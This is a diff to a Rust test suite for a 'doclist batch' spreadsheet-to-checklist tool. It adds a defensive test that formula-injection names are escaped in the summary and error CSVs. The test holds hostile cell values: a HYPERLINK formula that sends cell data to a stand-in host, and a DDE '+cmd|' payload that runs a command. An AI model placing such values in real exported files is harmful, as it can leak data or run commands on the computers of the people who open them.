@@ -1,6 +1,10 @@
 //! `doclist batch` end to end on small sheets: mixed policies, bad rows, hostile names,
 //! encodings, Excel, an interrupted run, the merge file and the summary's figures.
 
+#[path = "common/tools.rs"]
+mod tools;
+use tools::{PDFINFO, PDFTOTEXT};
+
 use assert_cmd::Command;
 use std::path::{Path, PathBuf};
 
@@ -195,6 +199,43 @@ fn hostile_and_duplicate_names_stay_inside_and_apart() {
 }
 
 #[test]
+fn formulas_in_names_are_never_written_as_formulas() {
+    let dir = tempfile::tempdir().unwrap();
+    let rows = vec![
+        r#"shanghai/residence-registration,"=HYPERLINK(""http://x/?""&A1,""x"")",,offline,owned,,,,"#.to_string(),
+        r#"shanghai/residence-registration,"+cmd|' /C calc'!A0",,offline,castle,,,,"#.to_string(),
+        "shanghai/residence-registration,@SUM(A1),,offline,castle,,,,".to_string(),
+        "shanghai/residence-registration,-1+2,,offline,owned,,,,".to_string(),
+    ];
+    let sheet = write_sheet(dir.path(), "s.csv", &rows);
+    let out = dir.path().join("out");
+    let (code, stderr) = run_batch(&sheet, &out, &[]);
+    assert_eq!(code, 1, "{stderr}");
+    let summary = read_csv(&out.join("summary.csv"));
+    let names: Vec<&str> = summary[1..].iter().map(|r| r[1].as_str()).collect();
+    assert_eq!(
+        names,
+        [
+            r#"'=HYPERLINK("http://x/?"&A1,"x")"#,
+            "'+cmd|' /C calc'!A0",
+            "'@SUM(A1)",
+            "'-1+2"
+        ]
+    );
+    let errors = read_csv(&out.join("errors.csv"));
+    assert_eq!(errors.len(), 3, "{errors:?}");
+    assert_eq!(errors[1][1], "'+cmd|' /C calc'!A0");
+    assert_eq!(errors[2][1], "'@SUM(A1)");
+    for cell in summary.iter().chain(&errors).flatten() {
+        let cell = cell.trim_start_matches('\u{feff}');
+        assert!(
+            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "{cell:?}"
+        );
+    }
+}
+
+#[test]
 fn gbk_and_bom_sheets_read_like_utf8() {
     let dir = tempfile::tempdir().unwrap();
     let rows = mixed_rows();
@@ -215,10 +256,13 @@ fn gbk_and_bom_sheets_read_like_utf8() {
     assert!(summaries[0].contains("张三"));
     assert_eq!(summaries[0], summaries[1], "GBK detected");
     assert_eq!(summaries[0], summaries[2], "BOM skipped");
-    // Forcing the wrong encoding garbles the Chinese headers: a clear error, no crash.
+    // Forcing the wrong encoding: a clear error naming the row, never a silent `�`.
     let (code, stderr) = run_batch(&gbk, &dir.path().join("forced"), &["--encoding", "utf-8"]);
     assert_eq!(code, 2);
-    assert!(stderr.contains("不是申请人信息的列名"), "{stderr}");
+    assert!(
+        stderr.contains("row 1: bytes that are not UTF-8 text"),
+        "{stderr}"
+    );
 }
 
 #[test]
@@ -464,8 +508,11 @@ fn an_interrupted_run_leaves_no_half_written_file_and_a_rerun_completes_it() {
     );
     // The same batch again gives the same files.
     let clean = dir.path().join("clean");
-    run_batch(&sheet, &clean, &["--format", "pdf"]);
-    for f in checklist_files(&clean) {
+    let (code, stderr) = run_batch(&sheet, &clean, &["--format", "pdf"]);
+    assert_eq!(code, 0, "{stderr}");
+    let written = checklist_files(&clean);
+    assert_eq!(written.len(), 400, "every person again");
+    for f in written {
         assert_eq!(
             std::fs::read(clean.join(&f)).unwrap(),
             std::fs::read(out.join(&f)).unwrap(),
@@ -488,6 +535,12 @@ fn pdf_pages(path: &Path) -> usize {
 
 #[test]
 fn merge_file_has_everyone_and_duplex_pads_to_front_sides() {
+    if tools::missing(
+        "merge_file_has_everyone_and_duplex_pads_to_front_sides",
+        &[PDFINFO, PDFTOTEXT],
+    ) {
+        return;
+    }
     let dir = tempfile::tempdir().unwrap();
     let sheet = write_sheet(dir.path(), "s.csv", &gen_rows(5));
     let out = dir.path().join("out");
